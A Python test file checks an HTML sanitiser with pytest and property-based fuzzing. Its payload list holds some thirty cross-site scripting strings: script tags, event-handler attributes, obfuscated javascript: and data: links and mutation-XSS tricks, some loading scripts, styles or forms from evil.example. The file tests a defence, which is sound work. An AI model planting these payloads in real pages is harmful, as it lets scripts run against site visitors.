"""Foreign HTML comes out harmless, and once harmless it stays as it is."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.sanitising import ATTRIBUTES, SCHEMES, TAGS, clean_html, plain_text_to_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://a.example" onclick="alert(1)" style="position:fixed">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    '<form action="//evil.example"><input name=q><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<<script>alert(1);//<</script>",
    '<details open ontoggle="alert(1)">x</details>',
    '<b id="x" class="y" name="z" data-a="b" accesskey="k">x</b>',
    "<p>unclosed <b>bold <i>both",
    "<img src=`x` onerror=alert(1)>",
    '<a href="//evil.example">same scheme</a>',
]


class Danger(HTMLParser):
    """Lists what a browser could act on beyond the house's tags."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"]:
                self.found.append(f"{tag}[{name}]")
            scheme, colon, _rest = (value or "").strip().partition(":")
            if name == "href" and colon and scheme.lower() not in SCHEMES:
                self.found.append(f"{tag}[href={scheme}]")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")


def dangers(html: str) -> list[str]:
    parser = Danger()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_comes_out_harmless(payload):
    cleaned = clean_html(payload)
    assert dangers(cleaned) == []
    assert clean_html(cleaned) == cleaned


def test_the_control_is_dangerous_before_it_is_cleaned():
    harmless = {'<a href="//evil.example">same scheme</a>', "<p>unclosed <b>bold <i>both"}
    unseen = {"<<script>alert(1);//<</script>"}  # this parser stumbles where a browser may not
    for payload in PAYLOADS:
        assert dangers(payload) or payload in harmless | unseen, payload


def test_what_editors_write_stays_as_it_is():
    html = (
        '<h2>Otsikko</h2><p lang="sv">Text &amp; mera <b>fet</b> <i>kursiv</i></p>'
        '<ul><li>yksi</li></ul><ol><li><a href="https://a.example/?x=1&amp;y=2">linkki</a></li></ol>'
        '<p><a href="/fi/moduulit/">sisäinen</a> <a href="mailto:a@academy.example">posti</a></p>'
    )
    assert clean_html(html) == html


markup = st.lists(
    st.one_of(
        st.text(max_size=8),
        st.sampled_from(
            [
                *("<", ">", "</", "/>", "<!--", "-->", "&", "&lt;", "&#60;", '"', "'", "`", "\x00"),
                *("<script>", "</script>", "<style>", "<svg>", "<math>", "<p>", "</p>", "<b>"),
                *("<a href=", "javascript:", "&colon;", " onerror=", "<img src=x", "<li>", "<ul>"),
                *("<template>", "<noscript>", "<textarea>", "<title>", "<![CDATA[", "]]>", "<?"),
            ]
        ),
    ),
    max_size=12,
).map("".join)


@given(markup)
def test_cleaning_is_idempotent_and_its_result_harmless(html):
    once = clean_html(html)
    assert dangers(once) == []
    assert clean_html(once) == once


@given(markup)
def test_plain_text_shows_markup_and_obeys_none(text):
    html = plain_text_to_html(text)
    assert dangers(html) == []
    assert clean_html(html) == html


def test_plain_text_becomes_paragraphs_lines_and_links():
    html = plain_text_to_html(
        "Hei <b>sinä</b>\r\ntoinen rivi\r\n\r\n https://example.com/x?y=1&z=2 "
    )
    assert html == (
        "<p>Hei &lt;b&gt;sinä&lt;/b&gt;<br>toinen rivi</p>"
        '<p><a href="https://example.com/x?y=1&amp;z=2">https://example.com/x?y=1&amp;z=2</a></p>'
    )


@pytest.mark.parametrize(
    "text", ["javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x"]
)
def test_plain_text_links_no_foreign_scheme(text):
    assert "<a" not in plain_text_to_html(text)


def test_nothing_is_nothing():
    assert clean_html("") == plain_text_to_html("") == plain_text_to_html(" \n\n ") == ""
